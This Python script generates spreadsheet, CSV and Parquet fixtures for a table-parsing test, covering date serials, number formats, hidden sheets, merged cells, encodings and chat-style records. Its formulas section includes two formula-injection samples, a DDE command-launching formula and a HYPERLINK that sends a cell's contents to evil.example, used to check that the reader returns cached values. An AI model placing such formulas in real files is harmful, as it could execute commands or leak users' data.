"""Makes the workbooks, CSV and Parquet files that test/collector/tables.test.ts reads: every kind of cell and column, written by openpyxl, XlsxWriter,
Python's csv module and pyarrow. What they hold is written down once more, as plain text, in told.json beside them: by Python, not by everlora.
    python make.py <this folder>
"""
import csv
import datetime as dt
import json
import os
import sys
from decimal import Decimal

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import xlsxwriter
from openpyxl.utils.datetime import CALENDAR_MAC_1904

folder = sys.argv[1]
told = {}


def at(name):
    return os.path.join(folder, name)


# [question, value, number format, text that a person sees (dates in ISO 8601)]
CELLS = [
    ("A plain date?", dt.date(2024, 2, 29), None, "2024-02-29"),
    ("A date and a time?", dt.datetime(1999, 12, 31, 23, 59, 59), None, "1999-12-31T23:59:59"),
    ("A time?", dt.time(14, 30), None, "14:30:00"),
    ("A duration?", dt.timedelta(hours=49, minutes=5), None, "49:05:00"),
    ("A Brazilian date?", dt.date(1987, 3, 4), "dd/mm/yyyy", "1987-03-04"),
    ("A date in words?", dt.date(2025, 7, 9), 'd" de "mmmm" de "yyyy', "2025-07-09"),
    ("A German date?", dt.date(2030, 1, 31), "[$-407]d. mmmm yyyy;@", "2030-01-31"),
    ("Month and year?", dt.date(2020, 5, 1), "mmm-yy", "2020-05-01"),
    ("Half past, with seconds?", dt.datetime(2021, 6, 1, 8, 30, 15, 250000), "yyyy-mm-dd hh:mm:ss.000", "2021-06-01T08:30:15.250"),
    ("Twelve-hour clock?", dt.time(23, 5, 7), "h:mm:ss AM/PM", "23:05:07"),
    ("A number?", 3.14, None, "3.14"),
    ("A sum with rounding?", 0.1 + 0.2, None, "0.3"),
    ("An amount in reais?", 1234.5, '"R$" #,##0.00', "1234.5"),
    ("Days, which is no date?", 30, '0 "days"', "30"),
    ("Per cent?", 0.25, "0%", "0.25"),
    ("Coloured?", -7, "0;[Red]-0", "-7"),
    ("A large number?", 123456789012, None, "123456789012"),
    ("CPF as a number?", 6259666511, r"000\.000\.000\-00", "062.596.665-11"),
    ("CEP as a number?", 1310100, "00000-000", "01310-100"),
    ("A code with zeros?", 42, "000000", "000042"),
    ("True?", True, None, "true"),
    ("False?", False, None, "false"),
    ("Text like a number?", "007", "@", "007"),
    ("Text like a formula?", "'=1+1 is how a sum begins", None, "'=1+1 is how a sum begins"),
    ("Several lines?", "one\ntwo\tthree", None, "one\ntwo\tthree"),
]

for name, epoch in (("kinds.xlsx", None), ("kinds_1904.xlsx", CALENDAR_MAC_1904)):
    book = openpyxl.Workbook()
    if epoch is not None:
        book.epoch = epoch
    first = book.active
    first.title = "Hidden first"
    first.append(["question", "answer"])
    first.append(["Hidden?", "Nobody may read this."])
    first.sheet_state = "hidden"
    book.create_sheet("Very hidden").sheet_state = "veryHidden"
    sheet = book.create_sheet("Seen")
    book.active = 2
    sheet.append(["question", "answer"])
    for row, (question, value, code, _) in enumerate(CELLS, start=2):
        sheet.cell(row, 1, question)
        cell = sheet.cell(row, 2, value)
        if code is not None:
            cell.number_format = code
    book.create_sheet("After").append(["not", "read"])
    book.save(at(name))
    told[name] = [[question, text] for question, _, _, text in CELLS]

# Days around the 29 February 1900 that never was, as serial numbers with a date's format, and numbers that no calendar has.
book = openpyxl.Workbook()
sheet = book.active
sheet.append(["question", "answer"])
DAYS = [(1, "1900-01-01"), (59, "1900-02-28"), (60, "1900-02-29"), (61, "1900-03-01"), (2958465, "9999-12-31"), (45351.75, "2024-02-29")]
for row, (serial, _) in enumerate(DAYS + [(2958466, ""), (-1, "")], start=2):
    sheet.cell(row, 1, f"Day {serial}?")
    sheet.cell(row, 2, serial).number_format = "yyyy-mm-dd"
book.save(at("days.xlsx"))
told["days.xlsx"] = [[f"Day {serial}?", text] for serial, text in DAYS]

# Merged cells: a context beside three rows, a question beside two.
book = openpyxl.Workbook()
sheet = book.active
sheet.append(["context", "question", "answer"])
sheet.append(["Law 8.245", "Who pays the repair?", "The landlord."])
sheet.append([None, "Who pays the bill?", "The tenant."])
sheet.append([None, "Who signs?", "Both."])
sheet.append(["Law 8.078", "Whom to ask?", "The agency."])
sheet.append([None, None, "A lawyer."])
sheet.append([None, "Alone?", "Yes."])
sheet.merge_cells("A2:A4")
sheet.merge_cells("B5:B6")
sheet.merge_cells("A9:C9")
book.save(at("merged.xlsx"))
told["merged.xlsx"] = [
    ["Law 8.245\n\nWho pays the repair?", "The landlord."],
    ["Law 8.245\n\nWho pays the bill?", "The tenant."],
    ["Law 8.245\n\nWho signs?", "Both."],
    ["Law 8.078\n\nWhom to ask?", "The agency."],
    ["Whom to ask?", "A lawyer."],
    ["Alone?", "Yes."],
]

# XlsxWriter: strings in the sheet itself, a chart's own sheet first, formulas with their values, formulas that attack, errors.
book = xlsxwriter.Workbook(at("formulas.xlsx"), {"constant_memory": True})
chart = book.add_chartsheet("Chart")
sheet = book.add_worksheet("Q&A")
FORMULAS = [
    ("What is 6 times 7?", "=6*7", 42, "42"),
    ("Which words?", '=CONCATENATE("a","b")', "ab", "ab"),
    ("Is it so?", "=1=1", True, "true"),
    ("What is run?", "=cmd|'/c calc'!A1", "harmless", "harmless"),
    ("Where does it lead?", '=HYPERLINK("https://evil.example/?x="&A1,"click me")', "click me", "click me"),
    ("Which day?", "=DATE(2024,2,29)", 45351, "2024-02-29"),
]
sheet.write_row(0, 0, ["question", "answer"])
date = book.add_format({"num_format": "dd/mm/yyyy"})
for row, (question, formula, value, _) in enumerate(FORMULAS, start=1):
    sheet.write_string(row, 0, question)
    sheet.write_formula(row, 1, formula, date if "DATE" in formula else None, value)
for row, error in enumerate(("#N/A", "#REF!", "#VALUE!", "#NAME?"), start=1 + len(FORMULAS)):
    sheet.write_string(row, 0, f"What is {error}?")
    sheet.write_formula(row, 1, "=NA()", None, error)
series = book.add_chart({"type": "line"})
series.add_series({"values": "='Q&A'!$B$2:$B$3"})
chart.set_chart(series)
book.close()
told["formulas.xlsx"] = [[question, text] for question, _, _, text in FORMULAS]

# CSV as Excel's "CSV (semicolon)", its "Unicode text", and spreadsheets of Windows in Portuguese write it.
ROWS = [("Quanto custa?", "R$ 1.234,50 – “à vista”"), ('Como se diz "não"?', "Diz-se\n«não»; com til."), ("Vírgula, ou ponto?", "Tanto faz, ora.")]
for name, encoding, options in (
    ("semicolon_cp1252.csv", "cp1252", {"delimiter": ";", "quoting": csv.QUOTE_MINIMAL}),
    ("comma_bom.csv", "utf-8-sig", {"delimiter": ",", "quoting": csv.QUOTE_ALL}),
    ("tab_utf16.tsv", "utf-16", {"dialect": "excel-tab"}),
    ("pipe_utf16be.csv", "utf-16-be", {"delimiter": "|", "lineterminator": "\n"}),
):
    with open(at(name), "w", encoding=encoding, newline="") as file:
        writer = csv.writer(file, **options)
        writer.writerow(["Pergunta", "Resposta"])
        writer.writerows(ROWS)
    told[name] = [list(row) for row in ROWS]

# Parquet: dictionaries, each compression, several row groups, types that are no texts, nulls.
count = 40
table = pa.table(
    {
        "question": [f"Question {number}?" for number in range(count)],
        "answer": pa.array([f"Answer {number % 3}." for number in range(count)]).dictionary_encode(),
        "domain": pa.array(["legal", None] * (count // 2)),
    }
)
for compression in ("snappy", "zstd", "gzip", "brotli", "lz4", "none"):
    pq.write_table(table, at(f"dictionary_{compression}.parquet"), compression=compression, use_dictionary=True, row_group_size=16)
    told[f"dictionary_{compression}.parquet"] = [[f"Question {number}?", f"Answer {number % 3}."] for number in range(count)]

for name, values, texts in (
    ("dates", pa.array([dt.date(2024, 2, 29), None]), ["2024-02-29"]),
    ("times", pa.array([dt.datetime(2024, 2, 29, 14, 30, 0, 250000)] * 2, pa.timestamp("us")), ["2024-02-29T14:30:00.250Z"] * 2),
    ("decimals", pa.array([Decimal("12.50"), Decimal("-0.01")], pa.decimal128(9, 2)), ["12.5", "-0.01"]),
    ("integers", pa.array([2**53 - 1, -3], pa.int64()), ["9007199254740991", "-3"]),
    ("booleans", pa.array([True, False]), ["true", "false"]),
):
    pq.write_table(pa.table({"question": ["First?", "Second?"], "answer": values}), at(f"{name}.parquet"))
    told[f"{name}.parquet"] = [[question, text] for question, text in zip(["First?", "Second?"], texts)]

# Chats as the hub's datasets have them: structs with fields that are null, integers of 64 bits, and chats that are a JSON text.
turns = [
    {"role": "system", "content": "Be short.", "weight": None, "name": None, "tool_calls": None},
    {"role": "user", "content": "Rio?", "weight": None, "name": None, "tool_calls": None},
    {"role": "assistant", "content": "Wrong.", "weight": 0, "name": None, "tool_calls": None},
    {"role": "user", "content": "Again?", "weight": None, "name": None, "tool_calls": None},
    {"role": "assistant", "content": "Thirty degrees.", "weight": 1, "name": None, "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "w", "arguments": "{}"}}]},
]
pq.write_table(pa.table({"messages": [turns, turns[:3]]}), at("structs.parquet"), compression="zstd")
pq.write_table(pa.table({"messages": [json.dumps(turns[1:3] + turns[3:4] + [{"role": "assistant", "content": "Thirty."}]), "no JSON"]}), at("json_texts.parquet"))
shared = [{"from": "human", "value": "Rio?"}, {"from": "gpt", "value": "Thirty."}]
pq.write_table(pa.table({"id": [1], "conversations": [shared]}), at("sharegpt.parquet"), compression="gzip")
pq.write_table(pa.table({"question": ["A?"], "answer": pa.array([[1, 2]])}), at("lists.parquet"))

with open(at("told.json"), "w", encoding="utf-8") as file:
    json.dump(told, file, ensure_ascii=False, indent=1)
    file.write("\n")
